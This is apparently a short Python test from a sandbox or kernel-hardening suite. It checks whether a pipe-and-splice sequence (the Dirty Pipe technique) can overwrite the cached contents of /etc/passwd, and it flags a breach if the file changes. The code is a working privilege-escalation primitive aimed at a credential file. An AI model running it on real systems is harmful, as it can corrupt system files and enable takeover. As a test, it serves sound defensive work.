# Pages of the image's files in a pipe, and then written to.
# expect: ok
import os

from hostile import breach

with open("/etc/passwd", "rb") as file:
    before = file.read()
fd = os.open("/etc/passwd", os.O_RDONLY)
read, write = os.pipe()
os.write(write, bytes(65536))
os.read(read, 65536)
os.splice(fd, write, 1, offset_src=0)
os.write(write, b"EVIL")
with open("/etc/passwd", "rb") as file:
    if file.read() != before:
        breach("the page cache was written to")
